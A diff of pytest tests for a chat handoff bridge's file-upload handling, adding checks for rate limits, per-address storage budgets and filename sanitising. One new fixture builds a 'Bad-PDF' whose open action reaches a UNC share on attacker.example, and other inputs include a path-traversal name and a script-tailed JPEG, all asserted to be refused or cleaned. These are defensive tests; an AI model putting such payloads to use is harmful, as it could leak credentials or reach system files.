@@ -14,10 +14,13 @@ import pytest
 import redis as redis_sync
 import requests
 
+from handoff.attachments import safe_name
+from handoff.filecheck import FileKind
+from handoff.limits import WINDOW_SECONDS
 from handoff_client import Customer
 from harness.clients import claimed, staff
 from harness.files import HTML_AS_PNG, SVG_WITH_SCRIPT, image, pdf, pdf_hiding_script, pdf_with_script
-from harness.servers import RASA_API_TOKEN, running_bridge
+from harness.servers import RASA_API_TOKEN, add_agent, running_bridge
 
 SANDBOX = "default-src 'none'; sandbox"
 
@@ -123,6 +126,8 @@ def test_an_agent_sends_a_pdf_which_the_customer_receives_as_a_download(bridge):
     (b"just some words", "notes.txt", 415, "unsupported_type"),
     (pdf_with_script(), "statement.pdf", 422, "unsafe_file"),
     (pdf_hiding_script(), "statement.pdf", 422, "unsafe_file"),
+    (pdf().replace(b"/MediaBox", b"/AA << /O << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) >> >> /MediaBox"),
+     "letter.pdf", 422, "unsafe_file"),  # trial 16: a UNC share opened with the page ("Bad-PDF")
     (image("PNG")[:-9], "cut.png", 422, "malformed_file"),
     (image("JPEG") + b"<script>alert(1)</script>", "tail.jpg", 422, "malformed_file"),
     (b"", "empty.png", 422, "malformed_file"),
@@ -298,7 +303,10 @@ def test_too_many_uploads_and_a_smaller_cap_are_refused_with_their_codes(short_l
         assert upload(short_lived_bridge, cid, image("GIF", 8, 8), as_customer(customer)).status_code == 201
         refused = upload(short_lived_bridge, cid, image("GIF", 8, 8), as_customer(customer))
         assert (refused.status_code, error_code(refused)) == (429, "too_many_uploads")
-        assert refused.headers["Retry-After"] == "60" and "one sender" in refused.json()["error"]["message"]
+        # Retry-After: the seconds to the end of the cap's 10-minute window (not a minute: trial 16).
+        to_window_end = WINDOW_SECONDS - time.time() % WINDOW_SECONDS
+        assert abs(int(refused.headers["Retry-After"]) - to_window_end) <= 2, refused.headers
+        assert "one sender" in refused.json()["error"]["message"]
         # New conversations from the same address, one file each: the address's cap comes next.
         others = []
         for _ in range(5):
@@ -308,13 +316,15 @@ def test_too_many_uploads_and_a_smaller_cap_are_refused_with_their_codes(short_l
                 break
         assert (answer.status_code, error_code(answer)) == (429, "too_many_uploads")
         assert "one address" in answer.json()["error"]["message"]
+        assert abs(int(answer.headers["Retry-After"]) - (WINDOW_SECONDS - time.time() % WINDOW_SECONDS)) <= 2
         for each in (customer, *others):
             await each.close()
 
     asyncio.run(scenario())
 
 
-def test_a_file_sent_to_the_bot_is_kept_for_the_agent_never_sent_to_rasa(bridge, rasa_url):
+def test_a_file_sent_to_the_bot_is_kept_for_the_agent_never_sent_to_rasa_with_one_notice_a_burst(
+        bridge, rasa_url, redis_url, bridge_prefix):
     async def scenario() -> None:
         customer = await Customer.connect(bridge)
         cid = customer.conversation_id
@@ -325,6 +335,13 @@ def test_a_file_sent_to_the_bot_is_kept_for_the_agent_never_sent_to_rasa(bridge,
             lambda e: e["type"] == "message" and e["data"]["data"].get("notice") == "attachment_kept", "the notice")
         assert kept["data"]["kind"] == "system" and kept["data"]["data"]["offer"] == ["talk_to_person"]
         assert "can't read files" in kept["data"]["text"]
+        # More files straight after: kept, without a notice each (trial 16: 20 files, 20 notices).
+        for number in range(2):
+            assert upload(bridge, cid, image("GIF", 8, 8), as_customer(customer), f"more-{number}.gif").status_code == 201
+        log = redis_sync.Redis.from_url(redis_url).xrange(f"{bridge_prefix}:log:{cid}")
+        texts = [fields[b"text"].decode() for _, fields in log]
+        assert [text for text in texts if text.startswith("more-")] == ["more-0.gif", "more-1.gif"]
+        assert texts.count(kept["data"]["text"]) == 1, texts
         tracker = requests.get(f"{rasa_url}/conversations/{cid}/tracker", params={"token": RASA_API_TOKEN},
                                timeout=30).json()
         assert name.rsplit(".", 1)[0] not in repr(tracker.get("events")), "the file reached Rasa"
@@ -381,14 +398,17 @@ def budget_prefix(bridge_prefix) -> str:
 
 @pytest.fixture(scope="module")
 def budgeted_bridge(redis_url, rasa_url, budget_prefix) -> Iterator[str]:
-    """Room for two copies of pdf() per conversation and three in all today."""
+    """Room for two copies of pdf() per conversation, three from one customer address and four in all today."""
+    add_agent(redis_url, budget_prefix, "ann")
     with running_bridge(redis_url, rasa_url, "bridge-budget", budget_prefix,
                         HANDOFF_MAX_FILE_BYTES_PER_CONVERSATION=str(2 * len(pdf()) + 10),
-                        HANDOFF_MAX_FILE_BYTES_PER_DAY=str(3 * len(pdf()) + 10)) as address:
+                        HANDOFF_MAX_FILE_BYTES_PER_ADDRESS_PER_DAY=str(3 * len(pdf()) + 10),
+                        HANDOFF_MAX_FILE_BYTES_PER_DAY=str(4 * len(pdf()) + 10)) as address:
         yield address
 
 
-def test_the_bytes_of_files_kept_have_a_budget_per_conversation_and_per_day(budgeted_bridge, redis_url, budget_prefix):
+def test_the_bytes_of_files_kept_have_a_budget_per_conversation_per_customer_address_and_per_day(
+        budgeted_bridge, redis_url, budget_prefix):
     async def scenario() -> None:
         first, second = await Customer.connect(budgeted_bridge), await Customer.connect(budgeted_bridge)
         for client_id in ("a", "b"):
@@ -401,13 +421,29 @@ def test_the_bytes_of_files_kept_have_a_budget_per_conversation_and_per_day(budg
         assert "this conversation" in full.json()["error"]["message"]
         client = redis_sync.Redis.from_url(redis_url)
         assert int(client.hget(f"{budget_prefix}:files:{first.conversation_id}", "bytes")) == 2 * len(pdf())
-        # Another conversation: one more fits in the day's budget, then none.
+        # Another conversation from the same address: one more fits in the address's day, then none
+        # (one visitor cannot spend the day's budget for everyone: trial 16).
         assert upload(budgeted_bridge, second.conversation_id, pdf(), as_customer(second)).status_code == 201
         spent = upload(budgeted_bridge, second.conversation_id, pdf(), as_customer(second))
         assert (spent.status_code, error_code(spent)) == (507, "file_space_full")
-        assert "today" in spent.json()["error"]["message"]
+        assert "one address" in spent.json()["error"]["message"]
+        assert 0 < int(spent.headers["Retry-After"]) <= 86400  # the end of the UTC day
         assert client.hlen(f"{budget_prefix}:files:{second.conversation_id}") == 3  # one file's meta and body, bytes
+        # Staff count only against the day's budget: one agent file fits, then the day is spent.
+        third, ann = await claimed(budgeted_bridge, "ann")
+        assert upload(budgeted_bridge, third.conversation_id, pdf(), as_agent(ann), "a.pdf").status_code == 201
+        day_spent = upload(budgeted_bridge, third.conversation_id, pdf(), as_agent(ann), "b.pdf")
+        assert (day_spent.status_code, error_code(day_spent)) == (507, "file_space_full")
+        assert "today" in day_spent.json()["error"]["message"]
+        await finished(third, ann)
         for each in (first, second):
             await each.close()
 
     asyncio.run(scenario())
+
+
+def test_a_slash_is_a_folder_only_in_a_path_elsewhere_part_of_the_name():
+    for claimed, kept in (("<b>bold</b>.pdf", "b_bold_b.pdf"), ("2024/03 statement.pdf", "2024_03 statement.pdf"),
+                          ("C:\\Users\\jo\\Statement.pdf", "Statement.pdf"), ("/home/jo/Statement.pdf", "Statement.pdf"),
+                          ("../../etc/passwd", "passwd.pdf"), ("c:/temp/scan.pdf", "scan.pdf")):
+        assert safe_name(claimed, FileKind.PDF) == kept, claimed
